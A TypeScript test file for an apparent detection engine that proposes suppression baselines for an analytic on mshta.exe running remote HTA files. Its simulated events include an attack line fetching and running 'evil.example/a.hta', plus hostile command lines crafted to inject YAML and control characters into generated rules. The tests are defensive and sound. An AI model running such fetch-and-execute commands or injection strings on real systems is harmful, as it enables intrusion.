import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Catalogue } from '../../analytics/catalogue';
import { catalogue, digest } from '../../analytics/testStory';
import { micros } from '../../base/time';
import { correlateHost } from '../../correlate/correlate';
import type { PlacedEvent } from '../../events/record';
import { scenario } from '../../events/scenario';
import type { Finding } from '../finding';
import { type Candidate, type Proposal, proposeBaseline } from './proposeBaseline';
import { holdsOver, type QuotedChain, quoteChain } from './quotedChain';

const AN1397 = catalogue.analytics.find(({ id }) => id === 'AN1397');
if (AN1397 === undefined) throw new Error('no AN1397');
const analytic = AN1397;

type Told = {
  readonly finding: Finding;
  readonly chain: QuotedChain;
  readonly events: readonly PlacedEvent[];
};
type Telling = {
  readonly host?: string;
  readonly user?: string;
  readonly parent?: string;
  readonly parentLine?: string;
  readonly line?: string;
  readonly address?: string;
};

/** A program that has mshta run something remote, which then calls out and writes a file. */
function told(telling: Telling = {}): Told {
  const host = telling.host ?? 'ws-1.corp.example';
  const s = scenario({ digest, host, user: telling.user ?? 'CORP\\anna', start: '2026-03-02T09:00:00Z' });
  s.background({ fileReads: true });
  const parent = s.starts(telling.parent ?? 'C:\\Program Files\\Acme Deploy\\acmeagent.exe', {
    commandLine: telling.parentLine ?? 'acmeagent.exe --run',
  });
  const mshta = s.starts('C:\\Windows\\System32\\mshta.exe', {
    parent,
    commandLine: telling.line ?? 'mshta.exe https://deploy.acme.example/job/1234/run.hta',
  });
  s.after('2s');
  s.connects(mshta, telling.address ?? '203.0.113.9', 443);
  return quoted(s.events() as readonly PlacedEvent[], host);
}

function quoted(events: readonly PlacedEvent[], host: string): Told {
  const correlation = correlateHost({ host, events, catalogue, digest });
  const finding = correlation.findings.find((one) => one.analytic === analytic.id);
  if (finding === undefined) throw new Error('no finding');
  const things = {
    events: new Map(events.map((event) => [event.id, event])),
    processes: new Map(correlation.processes.map((node) => [node.entityId, node])),
  };
  return { finding, chain: quoteChain(finding, analytic, things), events };
}

const proposalFor = (one: Told, others: readonly Told[] = [], alike: readonly Told[] = []): Proposal =>
  proposeBaseline(
    [one, ...others].map(({ chain }) => chain),
    alike.map(({ chain }) => chain),
    analytic,
    catalogue.lists,
  );

/** Whether the engine itself hides the finding under a candidate. */
function hides(candidate: Candidate, one: Told): boolean {
  const baseline = {
    id: 1,
    analytic: analytic.id,
    title: 't',
    when: candidate.when,
    points: undefined,
    until: micros(9e15),
  };
  const under: Catalogue = { ...catalogue, analytics: [analytic], baselines: [baseline] };
  const { findings } = correlateHost({
    host: one.finding.host,
    events: one.events,
    catalogue: under,
    digest,
  });
  return findings.find(({ id }) => id === one.finding.id)?.suppressed === true;
}

describe('a proposal', () => {
  it('begins with this very chain on this host by this user, and widens from there', () => {
    const { candidates } = proposalFor(told());
    expect(candidates.length).toBeGreaterThan(4);
    expect(candidates[0]?.name).toBe('This very chain, on this host by this user');
    expect(candidates[0]?.yaml).toContain('host.name: ws-1.corp.example');
    const tests = candidates.map((candidate) => candidate.tests);
    expect(tests).toEqual([...tests].sort((a, b) => b - a));
  });

  it('only proposes what the engine then hides', () => {
    const one = told();
    for (const candidate of proposalFor(one).candidates)
      expect(hides(candidate, one), candidate.name).toBe(true);
  });

  it('hides other chains by wider patterns only', () => {
    const one = told();
    const { candidates } = proposalFor(one);
    const other = told({ host: 'ws-2.corp.example', user: 'CORP\\ben' });
    const covering = candidates.filter((candidate) => hides(candidate, other));
    expect(covering.map(({ name }) => name)).toContain('What was run and by which program');
    expect(covering.map(({ name }) => name)).not.toContain('This very chain, on this host by this user');
    const attack = told({
      parent: 'C:\\Windows\\explorer.exe',
      line: 'mshta.exe https://evil.example/a.hta',
      address: '198.51.100.1',
    });
    expect(candidates.filter((candidate) => hides(candidate, attack))).toEqual([]);
  });

  it('of fewer tests hides whatever one with the same and more hides', () => {
    const { candidates } = proposalFor(told());
    const worlds = [
      told(),
      told({ host: 'ws-9.corp.example' }),
      told({ user: 'CORP\\ben' }),
      told({ line: 'mshta.exe https://deploy.acme.example/job/99/run.hta' }),
      told({ address: '198.51.100.7' }),
    ];
    const [exact] = candidates;
    for (const world of worlds) {
      if (exact === undefined || holdsOver(exact.when, world.chain) !== true) continue;
      for (const candidate of candidates) expect(holdsOver(candidate.when, world.chain)).toBe(true);
    }
  });

  it('over several findings keeps what they share and leaves open what differs', () => {
    const one = told();
    const others = [
      told({ line: 'mshta.exe https://deploy.acme.example/job/77/run.hta', host: 'ws-2.corp.example' }),
      told({ line: 'mshta.exe https://deploy.acme.example/job/5/run.hta', user: 'CORP\\ben' }),
    ];
    const { candidates } = proposalFor(one, others);
    expect(candidates[0]?.yaml).toContain('mshta.exe https://deploy.acme.example/job/*/run.hta');
    for (const candidate of candidates)
      for (const each of [one, ...others]) expect(hides(candidate, each), candidate.yaml).toBe(true);
    expect(candidates.every(({ yaml }) => !yaml.includes('host.name') && !yaml.includes('user.name'))).toBe(
      true,
    );
  });

  it('adds what also covers those that people closed alike', () => {
    const one = told();
    const alike = told({ line: 'mshta.exe https://deploy.acme.example/job/77/run.hta' });
    const { candidates } = proposalFor(one, [], [alike]);
    expect(candidates.some(({ from, yaml }) => from === 2 && yaml.includes('/job/*/'))).toBe(true);
    expect(candidates.some(({ from, yaml }) => from === 1 && yaml.includes('/job/1234/'))).toBe(true);
  });

  it('never asks for a common program, a person or a host alone, and says so', () => {
    const one = told({ parent: 'C:\\Windows\\System32\\cmd.exe', line: 'mshta.exe https://a.example/x.hta' });
    const { candidates, refused } = proposalFor(one);
    for (const { yaml } of candidates) expect(yaml).toMatch(/command_line|destination\.|Acme/);
    expect(refused.map(({ why }) => why).join(' ')).toMatch(/switch the analytic off/);
    expect(refused.map(({ why }) => why).join(' ')).toMatch(/every computer has these programs/);
    expect(refused.map(({ why }) => why).join(' ')).toMatch(/takes over this account/);
  });

  it.each([
    ['wildcards', 'mshta.exe https://a.example/*?x=\\*\\?\\\\srv\\share'],
    ['YAML', 'mshta.exe https://a.example/": }] {x: [&a *b !!js/function |\n  - "# %TAG'],
    ['quotes and newlines', 'mshta.exe "https://a.example/\'"\r\n\tfoo: bar\n---\nstage: execution'],
    ['marks of direction', 'mshta.exe https://a.example/\u202Efdp.\u0007\u{1F600}'],
    ['a backslash at its end', 'mshta.exe https://a.example/x\\'],
  ])('quotes a hostile command line: %s', (_name, line) => {
    const one = told({ line });
    const { candidates } = proposalFor(one);
    const exact = candidates.filter(({ yaml }) => yaml.includes('a.example'));
    expect(exact.length).toBeGreaterThan(0);
    for (const candidate of candidates) expect(hides(candidate, one), candidate.yaml).toBe(true);
    const other = told({ line: 'mshta.exe https://b.example/other' });
    for (const candidate of exact) expect(holdsOver(candidate.when, other.chain)).not.toBe(true);
  });

  it('is sound whatever the command lines hold', () => {
    const base = told().chain;
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 40 }), { minLength: 1, maxLength: 3 }),
        (tails) => {
          const chains = tails.map((tail) => withLine(base, `mshta.exe https://a.example/${tail}`));
          const { candidates } = proposeBaseline(chains, [], analytic, catalogue.lists);
          for (const { when } of candidates)
            for (const chain of chains) expect(holdsOver(when, chain)).toBe(true);
        },
      ),
      { numRuns: 20 },
    );
  });
});

/** The chain with another command line of its anchor. */
function withLine(chain: QuotedChain, line: string): QuotedChain {
  return {
    ...chain,
    stages: chain.stages.map((stage) => ({
      ...stage,
      subjects: stage.subjects.map((subject) =>
        subject.event === undefined || stage.id !== 'execution'
          ? subject
          : { ...subject, event: { ...subject.event, 'process.command_line': line } },
      ),
    })),
  };
}
